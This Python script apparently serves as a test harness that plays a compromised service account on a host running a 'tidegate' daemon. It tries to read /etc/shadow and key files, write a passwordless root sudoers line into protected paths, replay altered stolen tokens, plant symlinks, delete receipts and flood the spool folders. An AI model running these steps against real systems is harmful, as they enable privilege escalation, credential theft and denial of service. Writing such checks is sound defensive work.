"""A courier in the wrong hands: run on the host as its account, it does all the harm that its account can. Prints one JSON object.

Arguments: the seconds to go on, the folder of stolen tokens. It is bounded in files and time, and ends by itself.
"""

import contextlib
import json
import os
import socket
import sys
import time
from pathlib import Path

INBOX, OUTBOX = Path("/var/lib/tidegate/spool/inbox"), Path("/var/lib/tidegate/spool/outbox")
SECRETS = (
    "/var/lib/tidegate/state.db",
    "/var/lib/tidegate/state.db-wal",
    "/var/lib/tidegate/host.jwk",
    "/var/lib/tidegate/archive",
    "/var/lib/tidegate/execs",
    "/var/lib/tidegate/backstop",
    "/etc/shadow",
)
SOCKETS = ("/run/tidegate/control.sock", "/run/tidegate/port.sock", "/run/tidegate/recorder/recorder.sock")
WRITTEN = (
    "/run/tidegate/keys/jit-alice",
    "/run/tidegate/sudoers.d/zz",
    "/run/tidegate/tenants/70000",
    "/run/userdb/evil.user",
    "/etc/tidegate/trust.d/evil.jwks",
    "/etc/tidegate/policy.d/evil.yaml",
    "/var/lib/tidegate/sessions/r-20261122T000000-00000000.tgr",
    "/var/lib/tidegate/evil",
)
FILES_MAX = 4000


def read_secrets() -> list[str]:
    """What should be root's or the recorder's, and could be read or listed all the same."""
    found = []
    for name in SECRETS:
        with contextlib.suppress(OSError):
            list(Path(name).iterdir()) if Path(name).is_dir() else Path(name).read_bytes()
            found.append(name)
    return found


def reach_sockets() -> list[str]:
    """Sockets that take our connection."""
    found = []
    for name in SOCKETS:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as probe, contextlib.suppress(OSError):
                probe.connect(name)
                found.append(name)
    return found


def write_elsewhere() -> list[str]:
    """Places that only others may write to, and that took a file."""
    found = []
    for name in WRITTEN:
        with contextlib.suppress(OSError):
            Path(name).write_text("root ALL=(ALL) NOPASSWD: ALL\n")
            found.append(name)
    return found


def replay(stolen: Path) -> int:
    """Everything that ever came, again, whole and altered."""
    count = 0
    for path in stolen.iterdir():
        data = path.read_bytes()
        for altered in (data, data[:-3] + b"AAA", data.replace(b".", b"..", 1), data + data):
            with contextlib.suppress(OSError):
                (INBOX / f"0-replayed-{count}").write_bytes(altered)
                count += 1
    return count


def spoil_outbox(canary: Path) -> None:
    """Links where the daemon writes, others' files removed, junk under the names that it uses."""
    for name in ("events.ndjson", "events.000000000001.ndjson"):
        with contextlib.suppress(OSError):
            (OUTBOX / name).unlink(missing_ok=True)
            (OUTBOX / name).symlink_to(canary)
    with os.scandir(OUTBOX) as entries:
        for entry in entries:
            if "-receipt-" in entry.name or "-answer-" in entry.name:
                with contextlib.suppress(OSError):
                    Path(entry.path).unlink()


def flood(ends: float) -> int:
    """Junk of every kind into both folders, as fast as it goes, until then."""
    count = 0
    while time.monotonic() < ends and count < FILES_MAX:
        count += 1
        with contextlib.suppress(OSError):
            kind = count % 8
            target = INBOX / f"00-junk-{count}"
            if kind == 0:
                target.symlink_to("/etc/shadow")
            elif kind == 1:
                os.mkfifo(target)
            elif kind == 2:
                target.mkdir()
            else:
                target.write_bytes(b"eyJhbGciOiJFZERTQSJ9.e30." + b"A" * 86)
            (OUTBOX / f"20991231T235959.{count:09d}Z-receipt-junk-{count}.jws").write_bytes(b"x" * 100)
    return count


def main() -> None:
    """All of it; then junk until the time is over."""
    ends = time.monotonic() + float(sys.argv[1])
    stolen, canary = Path(sys.argv[2]), Path(sys.argv[3])
    said = {"read": read_secrets(), "reached": reach_sockets(), "wrote": write_elsewhere()}
    replayed = replay(stolen)
    flooded = 0
    while time.monotonic() < ends:
        spoil_outbox(canary)
        flooded += flood(min(ends, time.monotonic() + 1.0)) if flooded < FILES_MAX else 0
        time.sleep(0.05)
    print(json.dumps({**said, "replayed": replayed, "flooded": flooded, "uid": os.getuid()}))


if __name__ == "__main__":
    main()
